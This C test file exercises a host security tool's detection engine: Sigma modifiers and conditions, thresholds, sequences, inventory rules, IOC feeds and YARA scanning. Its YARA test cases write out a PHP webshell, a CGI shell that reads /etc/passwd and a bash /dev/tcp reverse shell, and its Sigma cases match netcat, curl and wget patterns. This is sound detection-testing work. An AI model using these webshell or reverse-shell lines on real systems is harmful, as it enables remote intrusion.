/* test_engine.c - the detection engine on hand-made events: every value modifier, every
 * condition form, keywords, ancestors, thresholds, sequences, first-seen, dedup and allow-lists;
 * and the Sigma development rules (../shared/sigma-dev) loaded or reported with a reason. */
#include "test.h"

#include <unistd.h>

#include "engine/engine.h"
#include "engine/yara_scan.h"

struct got {
    int n;
    char rule[128];
    char action[32];
    int64_t repeat;
    int reports;
    char report[600];
};

static void on_alert(void *ctx, struct event *a)
{
    struct got *g = ctx;
    g->n++;
    const char *r = event_get_str(a, FLD_RULE_ID);
    snprintf(g->rule, sizeof(g->rule), "%s", r ? r : "");
    snprintf(g->action, sizeof(g->action), "%s", a->action);
    event_get_int(a, FLD_REPEAT_COUNT, &g->repeat);
    event_free(a);
}

static void on_report(void *ctx, const struct engine_report *r)
{
    struct got *g = ctx;
    g->reports++;
    snprintf(g->report, sizeof(g->report), "%s: %s", r->construct, r->reason);
}

/* An engine with one rule from text; NULL when it did not load (g->report says why). */
static struct engine *one(const char *yaml, struct got *g)
{
    struct engine_options opt = {.report = on_report, .report_ctx = g};
    struct engine *e = NULL;
    struct vg_error err = {{0}};
    memset(g, 0, sizeof(*g));
    if (engine_new(&opt, &e, &err))
        return NULL;
    int n = engine_load_text(e, yaml, strlen(yaml), "test", &err);
    if (n != 1 || engine_compile(e, &err)) {
        engine_free(e);
        return NULL;
    }
    return e;
}

static struct event *exec_ev(const char *exe, const char *cmdline)
{
    struct event *ev = event_new(TBL_PROCESS_EVENTS, "exec");
    event_add_str(ev, FLD_EXE, exe);
    event_add_str(ev, FLD_CMDLINE, cmdline);
    event_add_str(ev, FLD_ENTITY_ID, "00000000000000aa");
    event_add_str(ev, FLD_PARENT_ENTITY_ID, "00000000000000bb");
    event_add_int(ev, FLD_PID, 42);
    event_add_int(ev, FLD_UID, 1000);
    event_add_int(ev, FLD_EUID, 1000);
    return ev;
}

/* Does a Sigma process_creation rule with this detection match (exe, cmdline)? */
static int sigma_matches(const char *detection, const char *exe, const char *cmdline)
{
    char yaml[4096];
    snprintf(yaml, sizeof(yaml),
             "title: t\nid: t-1\nlevel: high\ntags: [attack.execution, attack.t1059.004]\n"
             "logsource: {category: process_creation, product: linux}\ndetection:\n%s", detection);
    struct got g;
    struct engine *e = one(yaml, &g);
    if (!e) {
        fprintf(stderr, "rule did not load: %s\n", g.report);
        return -1;
    }
    struct event *ev = exec_ev(exe, cmdline);
    engine_match(e, ev, 1, on_alert, &g);
    event_free(ev);
    engine_free(e);
    return g.n;
}

static void test_modifiers(void)
{
    CHECK_EQ_INT(sigma_matches("  s: {Image: /usr/bin/BASH}\n  condition: s\n", "/usr/bin/bash", "bash"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {Image: /usr/bin/bash}\n  condition: s\n", "/usr/bin/bash2", "x"), 0);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|contains: DEV/TCP}\n  condition: s\n", "/bin/sh", "x >& /dev/tcp/1"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|startswith: 'curl '}\n  condition: s\n", "/c", "curl -o x"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|startswith: 'curl '}\n  condition: s\n", "/c", "xcurl -o"), 0);
    CHECK_EQ_INT(sigma_matches("  s: {Image|endswith: [/nc, /ncat]}\n  condition: s\n", "/usr/bin/ncat", "x"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|contains|all: [a1, b2]}\n  condition: s\n", "/x", "b2 a1"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|contains|all: [a1, b2]}\n  condition: s\n", "/x", "a1 only"), 0);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine: 'wget * -O*'}\n  condition: s\n", "/x", "WGET http://a -O /tmp/x"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine: 'a?c'}\n  condition: s\n", "/x", "abc"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine: 'a\\*c'}\n  condition: s\n", "/x", "abc"), 0);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine: 'a\\*c'}\n  condition: s\n", "/x", "a*c"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|re: '^[a-z]+ -[0-9]{2}$'}\n  condition: s\n", "/x", "abc -12"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|re: '^ABC'}\n  condition: s\n", "/x", "abc"), 0);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|re|i: '^ABC'}\n  condition: s\n", "/x", "abc"), 1);
    /* look-behind: vectorscan refuses it, PCRE2 evaluates it */
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|re: '(?<=x)y'}\n  condition: s\n", "/x", "xy"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|cased: Abc}\n  condition: s\n", "/x", "abc"), 0);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|cased: Abc}\n  condition: s\n", "/x", "Abc"), 1);
    /* base64 of "whoami" is d2hvYW1p */
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|base64: whoami}\n  condition: s\n", "/x", "d2hvYW1p"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|base64offset|contains: whoami}\n  condition: s\n", "/x", "echo eCB3aG9hbWkg | base64 -d"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|windash|contains: ' -enc'}\n  condition: s\n", "/x", "p /enc AA"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|exists: true}\n  condition: s\n", "/x", "y"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {Cwd|exists: true}\n  condition: s\n", "/x", "y"), 0);
    CHECK_EQ_INT(sigma_matches("  s: {cwd: null}\n  condition: s\n", "/x", "y"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|fieldref|endswith: Image}\n  condition: s\n", "/bin/ls", "x /bin/ls"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {uid|gt: 999}\n  condition: s\n", "/x", "y"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {uid|lt: 1000}\n  condition: s\n", "/x", "y"), 0);
    CHECK_EQ_INT(sigma_matches("  s: {uid|gte: 1000, euid|lte: 1000}\n  condition: s\n", "/x", "y"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {uid: 1000}\n  condition: s\n", "/x", "y"), 1);
    CHECK_EQ_INT(sigma_matches("  s: [evil, bad]\n  condition: s\n", "/x", "a BAD one"), 1);
    CHECK_EQ_INT(sigma_matches("  s: {'|all': [evil, bad]}\n  condition: s\n", "/x", "a BAD one"), 0);
    /* unsupported and invalid: reported, not loaded */
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|wide: x}\n  condition: s\n", "/x", "y"), -1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|nosuch: x}\n  condition: s\n", "/x", "y"), -1);
    CHECK_EQ_INT(sigma_matches("  s: {CommandLine|re: '(('}\n  condition: s\n", "/x", "y"), -1);
}

static void test_cidr(void)
{
    const char *rule = "title: t\nid: n-1\nlevel: low\nlogsource: {category: network_connection, product: linux}\n"
                       "detection:\n  s: {DestinationIp|cidr: [10.0.0.0/8, 'fd00::/8']}\n  condition: s\n";
    struct got g;
    struct engine *e = one(rule, &g);
    CHECK(e != NULL);
    if (!e)
        return;
    const char *ips[] = {"10.1.2.3", "11.0.0.1", "fd12::1", "::ffff:10.9.9.9"};
    int want[] = {1, 0, 1, 1};
    for (int i = 0; i < 4; i++) {
        struct event *ev = event_new(TBL_NETWORK_EVENTS, "connect");
        event_add_str(ev, FLD_DST_IP, ips[i]);
        event_add_str(ev, FLD_EXE, ips[i]); /* a distinct dedup key per address */
        g.n = 0;
        engine_match(e, ev, 1, on_alert, &g);
        CHECK_EQ_INT(g.n, want[i]);
        event_free(ev);
    }
    engine_free(e);
}

static void test_conditions(void)
{
    const char *sel = "  a: {CommandLine|contains: aaa}\n  b1: {CommandLine|contains: bbb}\n"
                      "  b2: {CommandLine|contains: ccc}\n  _x: {CommandLine|contains: zzz}\n";
    struct {
        const char *cond, *cmd;
        int want;
    } cases[] = {
        {"a and b1", "aaa bbb", 1}, {"a and b1", "aaa", 0}, {"a or b1", "bbb", 1},
        {"a and not b1", "aaa bbb", 0}, {"not a", "xxx", 1}, {"a and (b1 or b2)", "aaa ccc", 1},
        {"1 of b*", "ccc", 1}, {"all of b*", "bbb", 0}, {"all of b*", "bbb ccc", 1},
        {"1 of them", "zzz", 0}, {"all of them", "aaa bbb ccc", 1}, {"not 1 of b*", "aaa", 1},
        {"a or b1 and b2", "aaa", 1}, {"(a or b1) and b2", "aaa", 0}, {"not not a", "aaa", 1},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char det[1024];
        snprintf(det, sizeof(det), "%s  condition: %s\n", sel, cases[i].cond);
        int got = sigma_matches(det, "/x", cases[i].cmd);
        if (got != cases[i].want)
            fprintf(stderr, "condition \"%s\" on \"%s\": %d\n", cases[i].cond, cases[i].cmd, got);
        CHECK_EQ_INT(got, cases[i].want);
    }
    char det[1024];
    snprintf(det, sizeof(det), "%s  condition: a | count() > 5\n", sel);
    CHECK_EQ_INT(sigma_matches(det, "/x", "aaa"), -1);
    snprintf(det, sizeof(det), "%s  condition: a and nosuch\n", sel);
    CHECK_EQ_INT(sigma_matches(det, "/x", "aaa"), -1);
}

static void test_native(void)
{
    struct got g;
    /* threshold: 3 distinct exes from one parent within 10 s */
    struct engine *e = one("id: n.t\ntitle: burst\nseverity: medium\nattack: {technique: [T1082]}\n"
                           "table: process_events\naction: exec\ndetection:\n  s: {exe|endswith: [/id, /uname, /ps]}\n"
                           "  condition: s\nthreshold: {count: 3, within: 10s, by: [parent_entity_id], distinct: exe}\n", &g);
    CHECK(e != NULL);
    const char *exes[] = {"/usr/bin/id", "/usr/bin/id", "/usr/bin/uname", "/usr/bin/ps"};
    int want[] = {0, 0, 0, 1};
    for (int i = 0; e && i < 4; i++) {
        struct event *ev = exec_ev(exes[i], "x");
        g.n = 0;
        engine_match(e, ev, (uint64_t)i + 1, on_alert, &g);
        CHECK_EQ_INT(g.n, want[i]);
        event_free(ev);
    }
    engine_free(e);
    /* sequence: A then B by uid */
    e = one("id: n.s\ntitle: seq\nseverity: high\nattack: {technique: [T1105]}\n"
            "sequence:\n  within: 1m\n  by: [uid]\n  steps:\n    - {table: process_events, action: exec, condition: a}\n"
            "    - {table: process_events, action: exec, condition: b}\n"
            "detection:\n  a: {exe|endswith: /curl}\n  b: {exe|startswith: /tmp/}\n", &g);
    CHECK(e != NULL);
    if (e) {
        struct event *b = exec_ev("/tmp/x", "x"), *a = exec_ev("/usr/bin/curl", "curl");
        engine_match(e, b, 1, on_alert, &g);
        CHECK_EQ_INT(g.n, 0); /* B before A */
        engine_match(e, a, 2, on_alert, &g);
        CHECK_EQ_INT(g.n, 0);
        b->time_ns = a->time_ns + 1000;
        engine_match(e, b, 3, on_alert, &g);
        CHECK_EQ_INT(g.n, 1);
        CHECK_EQ_STR(g.rule, "n.s");
        event_free(a);
        event_free(b);
        engine_free(e);
    }
    /* allow-list, ancestors from the event's ancestry, dedup */
    e = one("id: n.a\ntitle: anc\nseverity: high\nattack: {technique: [T1505.003]}\n"
            "table: process_events\naction: exec\ndetection:\n  s: {exe|endswith: /sh, ancestor.cmdline|contains: http.server}\n"
            "  condition: s\nallow:\n  cmdline|contains: harmless\n", &g);
    CHECK(e != NULL);
    if (e) {
        struct event *ev = exec_ev("/bin/sh", "sh -c id");
        event_add_str(ev, FLD_ANCESTRY, "[{\"entity_id\":\"1\",\"pid\":2,\"exe\":\"/usr/bin/python3\","
                                        "\"cmdline\":\"python3 -m http.server\"}]");
        engine_match(e, ev, 1, on_alert, &g);
        CHECK_EQ_INT(g.n, 1);
        CHECK_EQ_STR(g.action, "alert");
        engine_match(e, ev, 2, on_alert, &g); /* a repeat: counted, not sent */
        engine_match(e, ev, 3, on_alert, &g);
        CHECK_EQ_INT(g.n, 1);
        engine_flush(e, ev->time_ns + 3600ull * 1000000000ull, on_alert, &g);
        CHECK_EQ_INT(g.n, 2);
        CHECK_EQ_STR(g.action, "update");
        CHECK_EQ_INT(g.repeat, 3);
        struct event *ok = exec_ev("/bin/sh", "sh harmless");
        event_add_str(ok, FLD_ANCESTRY, "[{\"cmdline\":\"python3 -m http.server\"}]");
        engine_match(e, ok, 4, on_alert, &g);
        CHECK_EQ_INT(g.n, 2);
        event_free(ok);
        event_free(ev);
        engine_free(e);
    }
    /* first seen, persisted */
    char dir[] = "/tmp/vigil-engine-test.XXXXXX";
    CHECK(mkdtemp(dir) != NULL);
    for (int round = 0; round < 2; round++) {
        struct engine_options opt = {.state_dir = dir};
        struct vg_error err = {{0}};
        const char *y = "id: n.f\ntitle: first\nseverity: low\nattack: {technique: [T1059]}\n"
                        "table: process_events\naction: exec\ndetection:\n  s: {exe|startswith: /opt/}\n"
                        "  condition: s\nfirst_seen: [exe]\n";
        CHECK_EQ_INT(engine_new(&opt, &e, &err), 0);
        CHECK_EQ_INT(engine_load_text(e, y, strlen(y), "t", &err), 1);
        CHECK_EQ_INT(engine_compile(e, &err), 0);
        struct event *ev = exec_ev("/opt/new", "x");
        memset(&g, 0, sizeof(g));
        engine_match(e, ev, 1, on_alert, &g);
        CHECK_EQ_INT(g.n, round == 0 ? 1 : 0); /* seen before the restart */
        event_free(ev);
        engine_free(e);
    }
    char cmd[128];
    snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
    CHECK_EQ_INT(system(cmd), 0);
    /* native rules need severity and technique */
    CHECK(one("id: n.x\ntitle: x\ntable: process_events\ndetection:\n  s: {exe: /x}\n  condition: s\n", &g) == NULL);
    CHECK(strstr(g.report, "severity") != NULL);
}

static void test_sigma_dev(void)
{
    const char *dir = VIGIL_SOURCE_DIR "/../shared/sigma-dev/rules";
    if (access(dir, R_OK) != 0)
        dir = "/work/shared/sigma-dev/rules";
    struct got g = {0};
    struct engine_options opt = {.report = on_report, .report_ctx = &g};
    struct engine *e = NULL;
    struct vg_error err = {{0}};
    CHECK_EQ_INT(engine_new(&opt, &e, &err), 0);
    int n = engine_load_path(e, dir, &err);
    CHECK(n >= 78);
    CHECK_EQ_INT(engine_compile(e, &err), 0);
    struct engine_stats st;
    engine_get_stats(e, &st);
    /* every rule loads or is reported with a reason */
    CHECK_EQ_INT(st.rules + st.rules_skipped, 128);
    CHECK_EQ_INT((size_t)g.reports, st.rules_skipped);
    fprintf(stderr, "sigma-dev: %zu loaded, %zu reported\n", st.rules, st.rules_skipped);
    /* one of them on a real-looking event */
    struct event *ev = exec_ev("/usr/bin/xmrig", "xmrig --donate-level 1 -o stratum+tcp://pool:3333");
    memset(&g, 0, sizeof(g));
    engine_match(e, ev, 1, on_alert, &g);
    CHECK(g.n >= 1);
    event_free(ev);
    engine_free(e);
}

static void test_project_rules(void)
{
    struct got g = {0};
    struct engine_options opt = {.report = on_report, .report_ctx = &g};
    struct engine *e = NULL;
    struct vg_error err = {{0}};
    CHECK_EQ_INT(engine_new(&opt, &e, &err), 0);
    CHECK(engine_load_path(e, VIGIL_SOURCE_DIR "/rules", &err) >= 30);
    CHECK_EQ_INT(engine_compile(e, &err), 0);
    /* only rules on tables this build does not have yet are reported */
    if (g.reports)
        CHECK(strstr(g.report, "login_events") != NULL);
    engine_free(e);
}

/* The inventory change rules (rules/native/inventory.yml) on changes the collectors report. */
static int inventory_alerts(struct engine *e, enum table_id t, const char *action,
                            const char *f1, enum field_id id1, const char *v1, enum field_id id2,
                            int64_t v2, char *rule, size_t rulelen)
{
    struct got g = {0};
    struct event *ev = event_new(t, action);
    if (f1)
        event_add_str(ev, id1, v1);
    if (id2 != FLD_NONE)
        event_add_int(ev, id2, v2);
    event_add_str(ev, FLD_ROW_KEY, "k");
    engine_match(e, ev, 1, on_alert, &g);
    event_free(ev);
    snprintf(rule, rulelen, "%s", g.rule);
    return g.n;
}

static void test_inventory_rules(void)
{
    struct got g = {0};
    struct engine_options opt = {.report = on_report, .report_ctx = &g};
    struct engine *e = NULL;
    struct vg_error err = {{0}};
    char rule[128];
    CHECK_EQ_INT(engine_new(&opt, &e, &err), 0);
    CHECK_EQ_INT(engine_load_path(e, VIGIL_SOURCE_DIR "/rules/native/inventory.yml", &err), 7);
    CHECK_EQ_INT(engine_compile(e, &err), 0);
    CHECK_EQ_INT(g.reports, 0);
    /* a second uid 0 alerts; root itself, and the first scan's snapshot, do not */
    CHECK_EQ_INT(inventory_alerts(e, TBL_USER_CHANGES, "added", "u", FLD_USER, "toor", FLD_UID, 0,
                                  rule, sizeof(rule)), 1);
    CHECK_EQ_STR(rule, "vigil.inventory_uid0_account");
    CHECK_EQ_INT(inventory_alerts(e, TBL_USER_CHANGES, "added", "u", FLD_USER, "bob", FLD_UID,
                                  1001, rule, sizeof(rule)), 0);
    CHECK_EQ_INT(inventory_alerts(e, TBL_USER_CHANGES, "snapshot", "u", FLD_USER, "toor", FLD_UID,
                                  0, rule, sizeof(rule)), 0);
    /* set-id files: in /tmp yes, in /usr/bin (a package's) no */
    CHECK_EQ_INT(inventory_alerts(e, TBL_SUID_FILE_CHANGES, "added", "p", FLD_PATH, "/tmp/.x/sh",
                                  FLD_NONE, 0, rule, sizeof(rule)), 1);
    CHECK_EQ_STR(rule, "vigil.inventory_suid_file_added");
    CHECK_EQ_INT(inventory_alerts(e, TBL_SUID_FILE_CHANGES, "added", "p", FLD_PATH,
                                  "/usr/bin/passwd", FLD_NONE, 0, rule, sizeof(rule)), 0);
    /* listening ports: beyond loopback only */
    CHECK_EQ_INT(inventory_alerts(e, TBL_LISTENING_PORT_CHANGES, "added", "s", FLD_SRC_IP,
                                  "0.0.0.0", FLD_SRC_PORT, 4444, rule, sizeof(rule)), 1);
    CHECK_EQ_INT(inventory_alerts(e, TBL_LISTENING_PORT_CHANGES, "added", "s", FLD_SRC_IP,
                                  "127.0.0.1", FLD_SRC_PORT, 4444, rule, sizeof(rule)), 0);
    /* a key added */
    CHECK_EQ_INT(inventory_alerts(e, TBL_SSH_KEY_CHANGES, "added", "f", FLD_FINGERPRINT,
                                  "SHA256:abc", FLD_NONE, 0, rule, sizeof(rule)), 1);
    CHECK_EQ_STR(rule, "vigil.inventory_ssh_key_added");
    /* sudoers: NOPASSWD ALL */
    struct event *ev = event_new(TBL_SUDOERS_CHANGES, "added");
    event_add_str(ev, FLD_RULE_TYPE, "spec");
    event_add_str(ev, FLD_PRINCIPAL, "mallory");
    event_add_str(ev, FLD_COMMAND, "ALL");
    event_add_int(ev, FLD_NOPASSWD, 1);
    memset(&g, 0, sizeof(g));
    engine_match(e, ev, 1, on_alert, &g);
    CHECK_EQ_INT(g.n, 1);
    CHECK_EQ_STR(g.rule, "vigil.inventory_sudoers_nopasswd_all");
    event_free(ev);
    engine_free(e);
}

static void test_ioc(void)
{
    struct got g = {0};
    struct engine_options opt = {.report = on_report, .report_ctx = &g};
    struct engine *e = NULL;
    struct vg_error err = {{0}};
    CHECK_EQ_INT(engine_new(&opt, &e, &err), 0);
    CHECK_EQ_INT(engine_compile(e, &err), 0);
    const char *csv = "type,value,description\n# comment\n"
                      "sha256,E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,empty\n"
                      "ip,203.0.113.7\ncidr,198.51.100.0/24\ndomain,evil.example\nbogus,xyz\n\"quoted, x\",1\n";
    CHECK_EQ_INT(engine_load_ioc_text(e, csv, strlen(csv), "feed.csv", &err), 4);
    CHECK(g.reports >= 1);
    const char *stix = "{\"type\":\"bundle\",\"objects\":[{\"type\":\"indicator\",\"pattern_type\":\"stix\","
                       "\"pattern\":\"[ipv4-addr:value = '192.0.2.9'] OR [domain-name:value = 'c2.example']\"}]}";
    CHECK_EQ_INT(engine_load_ioc_text(e, stix, strlen(stix), "bundle.json", &err), 2);
    const char *misp = "{\"Event\":{\"info\":\"x\",\"Attribute\":[{\"type\":\"ip-dst|port\",\"value\":\"192.0.2.50|443\"}],"
                       "\"Object\":[{\"Attribute\":[{\"type\":\"hostname\",\"value\":\"pool.miner.example\"}]}]}}";
    CHECK_EQ_INT(engine_load_ioc_text(e, misp, strlen(misp), "misp.json", &err), 2);
    CHECK(engine_load_ioc_text(e, "{\"x\":1}", 7, "bad.json", &err) < 0);
    struct {
        int table;
        int field;
        const char *value;
        int want;
    } cases[] = {
        {TBL_PROCESS_EVENTS, FLD_EXE_SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", 1},
        {TBL_NETWORK_EVENTS, FLD_DST_IP, "203.0.113.7", 1},
        {TBL_NETWORK_EVENTS, FLD_DST_IP, "198.51.100.200", 1},
        {TBL_NETWORK_EVENTS, FLD_DST_IP, "198.51.101.1", 0},
        {TBL_NETWORK_EVENTS, FLD_DST_IP, "192.0.2.9", 1},
        {TBL_NETWORK_EVENTS, FLD_DST_IP, "192.0.2.50", 1},
        {TBL_NETWORK_EVENTS, FLD_DNS_QUERY, "www.evil.example", 1},
        {TBL_NETWORK_EVENTS, FLD_DNS_QUERY, "notevil.example", 0},
        {TBL_NETWORK_EVENTS, FLD_DNS_QUERY, "pool.miner.example", 1},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct event *ev = event_new((enum table_id)cases[i].table, cases[i].table == TBL_PROCESS_EVENTS ? "exec" : "connect");
        event_add_str(ev, (enum field_id)cases[i].field, cases[i].value);
        g.n = 0;
        engine_match(e, ev, 1, on_alert, &g);
        if (g.n != cases[i].want)
            fprintf(stderr, "ioc %s: %d\n", cases[i].value, g.n);
        CHECK_EQ_INT(g.n, cases[i].want);
        event_free(ev);
    }
    engine_free(e);
}

static void on_yara(void *ctx, const struct yara_match *m)
{
    struct got *g = ctx;
    g->n++;
    snprintf(g->rule, sizeof(g->rule), "%s", m->rule);
    struct event *a = yara_alert_event(m, "/tmp/x", NULL);
    CHECK(a != NULL);
    if (a) {
        CHECK_EQ_STR(event_get_str(a, FLD_RULE_SOURCE), "yara");
        event_free(a);
    }
}

static void write_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    CHECK(f != NULL);
    if (f) {
        fputs(text, f);
        fclose(f);
    }
}

static void test_yara(void)
{
    char dir[] = "/tmp/vigil-yara-test.XXXXXX";
    CHECK(mkdtemp(dir) != NULL);
    struct got g = {0};
    struct yara_set *ys = NULL;
    struct vg_error err = {{0}};
    int n = yara_set_load(VIGIL_SOURCE_DIR "/rules/yara", on_report, &g, &ys, &err);
    CHECK(n >= 3);
    CHECK_EQ_INT(g.reports, 0);
    CHECK(ys != NULL);
    char path[256];
    struct { const char *name, *text, *rule; } cases[] = {
        {"shell.php", "<?php if(isset($_GET['c'])) { system($_GET['c']); } ?>", "vigil_php_webshell"},
        {"shell.cgi", "#!/bin/sh\necho \"Content-Type: text/plain\"; echo\nsh -c \"id; uname -a; cat /etc/passwd\"\n",
         "vigil_cgi_shell_webshell"},
        {"x.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "vigil_reverse_shell_script"},
        {"m.json", "{\"url\": \"stratum+tcp://pool:3333\", \"algo\": \"randomx\"}", "vigil_miner_binary"},
        {"ok.txt", "hello world, nothing to see", ""},
    };
    for (size_t i = 0; ys && i < sizeof(cases) / sizeof(cases[0]); i++) {
        snprintf(path, sizeof(path), "%s/%s", dir, cases[i].name);
        write_file(path, cases[i].text);
        memset(&g, 0, sizeof(g));
        int m = yara_set_scan_file(ys, path, 1 << 20, on_yara, &g, &err);
        CHECK_EQ_INT(m, cases[i].rule[0] ? 1 : 0);
        if (cases[i].rule[0])
            CHECK_EQ_STR(g.rule, cases[i].rule);
    }
    yara_set_free(ys);
    /* a broken rule file is reported, the good one still loads */
    snprintf(path, sizeof(path), "%s/bad.yar", dir);
    write_file(path, "rule broken { strings: $a = \"x\" condition: $b }");
    snprintf(path, sizeof(path), "%s/good.yar", dir);
    write_file(path, "rule good { strings: $a = \"nothing\" condition: $a }");
    memset(&g, 0, sizeof(g));
    ys = NULL;
    CHECK_EQ_INT(yara_set_load(dir, on_report, &g, &ys, &err), 1);
    CHECK_EQ_INT(g.reports, 1);
    CHECK(strstr(g.report, "line 1") != NULL);
    yara_set_free(ys);
    char cmd[128];
    snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
    CHECK_EQ_INT(system(cmd), 0);
}

TEST_MAIN(TEST(test_modifiers), TEST(test_cidr), TEST(test_conditions), TEST(test_native), TEST(test_inventory_rules),
          TEST(test_sigma_dev), TEST(test_project_rules), TEST(test_ioc),
          TEST(test_yara))
